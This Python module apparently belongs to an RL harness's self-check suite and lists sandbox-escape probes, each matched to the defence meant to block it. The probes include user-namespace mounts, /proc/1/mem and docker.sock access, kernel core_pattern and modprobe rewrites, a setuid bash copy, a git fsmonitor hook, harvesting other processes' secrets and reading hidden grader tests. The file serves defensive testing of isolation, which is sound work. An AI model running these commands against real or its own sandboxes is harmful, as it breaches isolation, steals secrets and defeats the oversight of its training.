"""Leaving the sandbox: kernel interfaces, the host's files and processes, other trials."""

from lego_rl.selfcheck.attack import Attack, Defence, Kind
from lego_rl.selfcheck.bystanders import BYSTANDER, NEIGHBOUR

_LIBC = """import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def tried(what, result):
    print(f"reached: {what}" if result != -1 else f"{what}: {os.strerror(ctypes.get_errno())}", flush=True)
    return result != -1
"""


def _python(text: str) -> str:
    return f"python3 - <<'PY'\n{_LIBC}{text}PY\n"


_NEW_USERS = """NEWUSER, NEWNS, NEWNET = 0x10000000, 0x20000, 0x40000000
def enter(flags):
    uid = os.getuid()
    if libc.unshare(flags | NEWUSER) != 0:
        return False
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
        with open(f"/proc/self/{name}", "w") as stream:
            stream.write(text)
    return True
"""
_MOUNT = (
    _NEW_USERS
    + """if enter(NEWNS):
    tried("a mount of its own", libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
"""
)
_PACKET = (
    _NEW_USERS
    + """try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    print("reached: a packet socket")
except OSError as error:
    print(error)
    if enter(NEWNET):
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
        print("reached: a packet socket in a network of its own")
"""
)
_KEYS = """add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
tried("a key ring", libc.syscall(add_key, b"user", b"lego", b"x", 1, -3))
"""
_VSOCK = """try:
    with socket.socket(40, socket.SOCK_STREAM) as vsock:
        print("reached: a vsock socket")
except OSError as error:
    print(error)
"""
_SETUP_URING = 'tried("io_uring", libc.syscall(425, 8, ctypes.create_string_buffer(512)))\n'
_BPF = """bpf = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
tried("bpf", libc.syscall(bpf, 0, ctypes.create_string_buffer(128), 128))
"""
_TAKE_DESCRIPTOR = """for number in range(3, 64):
    if libc.syscall(438, os.pidfd_open(1), number, 0) != -1:
        print("reached: descriptor", number, "of the first process")
        break
else:
    print(os.strerror(ctypes.get_errno()))
"""
_FIRST_MEMORY = """try:
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    print("reached: the memory of the first process")
except OSError as error:
    print(error)
"""
# With little processor time left and the children of others to bury, the kernel would kill it as if from outside.
_FIRST_LIMITS = """import resource
try:
    resource.prlimit(1, resource.RLIMIT_CPU, (3600, 3600))
    print("reached: the limits of the first process")
except OSError as error:
    print(error)
"""
_SHARED = """libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(int(os.environ["HOST_SHARED"]), None, 0)
if address not in (None, ctypes.c_void_p(-1).value):
    print(ctypes.string_at(address, 64))
"""
_DOCKER = """with socket.socket(socket.AF_UNIX) as client:
    os.chdir(os.environ["HOST_FOLDER"])
    client.connect("docker.sock")
    print(client.recv(100).decode())
"""
_REWRITE = """for name in ("core_pattern", "modprobe", "hostname"):
    try:
        with open(f"/proc/sys/kernel/{name}", "r+") as switch:
            text = switch.read()
            switch.seek(0)
            switch.write(text)
        print("reached: kernel switch", name)
    except OSError as error:
        print(error)
"""
_DEVICES = """import stat
for name, major, minor in (("sda", 8, 0), ("vda", 254, 0), ("mem", 1, 1)):
    try:
        os.mknod(f"/tmp/{name}", stat.S_IFBLK if name != "mem" else stat.S_IFCHR, os.makedev(major, minor))
        print("reached: device", name)
    except OSError as error:
        print(error)
"""


def _process(name: str, wanted: str) -> Attack:
    """Look for a process by its first argument; the second one is a secret."""
    script = f"cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a -A 1 -x {wanted}; true"
    # A container that shares the machine's processes would kill those of its user when it kills its own.
    return Attack(name, Kind.ESCAPE, script, Defence.OWN_PROC, unshown=("docker",))


# Run by whoever runs git on these files, as `git status` alone does.
_GIT_CONFIG = """rm -rf .git; git init -q . && git add -A
name=${OUTLIVE#lego-rl-outlives-}
printf '#!/bin/sh\\ntouch "%s/writable/%s"\\n' "$HOST_FOLDER" "$name" > .git/watch
chmod +x .git/watch
printf '[core]\\n\\tfsmonitor = .git/watch\\n' >> .git/config
"""

ESCAPES = (
    Attack("user-namespace", Kind.ESCAPE, _python(_MOUNT), Defence.SYSTEM_CALLS),
    Attack("packet-socket", Kind.ESCAPE, _python(_PACKET), Defence.SYSTEM_CALLS),
    Attack("key-ring", Kind.ESCAPE, _python(_KEYS), Defence.SYSTEM_CALLS),
    Attack("vsock", Kind.ESCAPE, _python(_VSOCK), Defence.SYSTEM_CALLS),
    Attack("io-uring", Kind.ESCAPE, _python(_SETUP_URING), Defence.SYSTEM_CALLS),
    # The daemon's own filter holds this one, too.
    Attack(
        "first-process-descriptor", Kind.ESCAPE, _python(_TAKE_DESCRIPTOR), Defence.UNTRACEABLE, unshown=("docker",)
    ),
    Attack("first-process-memory", Kind.ESCAPE, _python(_FIRST_MEMORY), Defence.UNTRACEABLE),
    Attack("first-process-limits", Kind.ESCAPE, _python(_FIRST_LIMITS), Defence.SYSTEM_CALLS),
    Attack("host-file", Kind.ESCAPE, 'cat "$HOST_FOLDER/secret.txt"', Defence.MOUNTS),
    Attack("docker-socket", Kind.ESCAPE, _python(_DOCKER), Defence.MOUNTS),
    Attack(
        "host-environment",
        Kind.ESCAPE,
        "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | tail -c 20000",
        Defence.ENVIRONMENT,
    ),
    _process("host-processes", BYSTANDER),
    _process("other-processes", NEIGHBOUR),
    Attack(
        "kernel-symbols",
        Kind.ESCAPE,
        "if head -c 1 /proc/kallsyms | grep -q .; then echo reached: the symbols of the kernel; fi",
        Defence.COVERED_PROC,
    ),
    Attack("shared-segment", Kind.ESCAPE, _python(_SHARED), Defence.IPC_NAMESPACE),
    Attack(
        "link-to-host",
        Kind.ESCAPE,
        'ln -s "$HOST_FOLDER/secret.txt" loot.txt; ln -s "$HOST_FOLDER" loot',
        Defence.LINKS,
    ),
    Attack("git-config", Kind.ESCAPE, _GIT_CONFIG, Defence.NO_GIT),
    # Unproven: more than one defence holds each of these, or the machine has nothing of the kind.
    Attack("kernel-switches", Kind.ESCAPE, _python(_REWRITE)),
    Attack("devices", Kind.ESCAPE, _python(_DEVICES)),
    Attack("bpf", Kind.ESCAPE, _python(_BPF)),
    Attack("control-groups", Kind.ESCAPE, "ls /sys/fs/cgroup/* >/dev/null 2>&1 && echo reached: control groups; true"),
    Attack(
        "set-user-id",
        Kind.ESCAPE,
        "cp /bin/bash suid; chmod 6755 suid; ./suid -p -c 'id -u' | grep -x 0 && echo reached: root; true",
    ),
    Attack(
        "hidden-tests",
        Kind.ESCAPE,
        "grep -rsl TestAdd /app /tests /solution /logs /run /home /opt/harness /tmp 2>/dev/null | head | xargs -r cat",
    ),
    Attack(
        "other-environment",
        Kind.ESCAPE,
        "for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $e | grep ^SECRET=; done 2>/dev/null; true",
    ),
    Attack(
        "other-files", Kind.ESCAPE, "cat /tmp/neighbour ../*/neighbour /proc/*/root/tmp/neighbour 2>/dev/null; true"
    ),
)
